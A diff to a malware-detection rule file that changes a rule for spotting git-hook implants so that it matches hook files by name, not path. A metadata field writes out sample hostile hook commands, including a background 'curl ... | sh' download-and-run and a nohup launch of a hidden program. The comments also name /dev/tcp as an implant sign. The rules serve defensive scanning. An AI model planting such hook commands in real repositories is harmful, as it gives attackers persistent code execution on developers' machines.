@@ -2673,8 +2673,8 @@ rule bot_perl_mimelite_list_mailer : bot mailer
         2 of ($c*)
 }
 
-/* Git hooks as persistence. A hook file (REPO/.git/hooks/NAME, a husky or
- * core.hooksPath directory) runs at every commit, checkout or merge: one
+/* Git hooks as persistence. A hook file (a file named as git's hooks are:
+ * REPO/.git/hooks/NAME, a husky or core.hooksPath directory) runs at every commit, checkout or merge: one
  * that pipes a download to a shell (from any source: no build step fetches
  * code in a hook), starts a hidden or temp-dir program in the background,
  * opens /dev/tcp or runs fetched Python is an implant. And a script that
@@ -2697,13 +2697,16 @@ private rule hs_git_hook_payload
 rule bot_git_hook_implant : bot
 {
     meta:
-        description = "Git hook (.git/hooks, husky or a hooks directory) that fetches and runs code, starts a hidden or temp-dir program in the background, or opens /dev/tcp"
+        description = "Git hook (a file named post-merge, pre-commit, post-checkout...) that fetches and runs code, starts a hidden or temp-dir program in the background, or opens /dev/tcp"
         severity = "high"
         technique = ".git/hooks/post-merge: (curl -fsSL https://x/s.sh | sh) >/dev/null 2>&1 &; post-checkout: nohup \"$HOME/.local/share/.x/d\" >/dev/null 2>&1 &"
         seen = "none"
     condition:
         filesize < 256KB and
-        filepath matches /\/(\.git\/hooks|\.husky|\.githooks|hooks)\/(pre|post)-[a-z-]{3,24}$|\/(\.git\/hooks|\.husky|\.githooks|hooks)\/(prepare-commit-msg|commit-msg|applypatch-msg|update|reference-transaction|push-to-checkout|sendemail-validate)$/ and
+        // by the hook's name, not its path: a rule that reads `filepath` makes the
+        // scanner judge every copy of a file apart (no verdict reused for the same
+        // WordPress in a hundred accounts: scan_memo.sh)
+        filename matches /^(pre-commit|pre-merge-commit|prepare-commit-msg|commit-msg|post-commit|pre-rebase|post-checkout|post-merge|pre-push|pre-receive|post-receive|post-update|push-to-checkout|pre-auto-gc|post-rewrite|reference-transaction|applypatch-msg|pre-applypatch|post-applypatch|sendemail-validate|post-index-change)$/ and
         not hs_doc_file and hs_git_hook_payload
 }
 
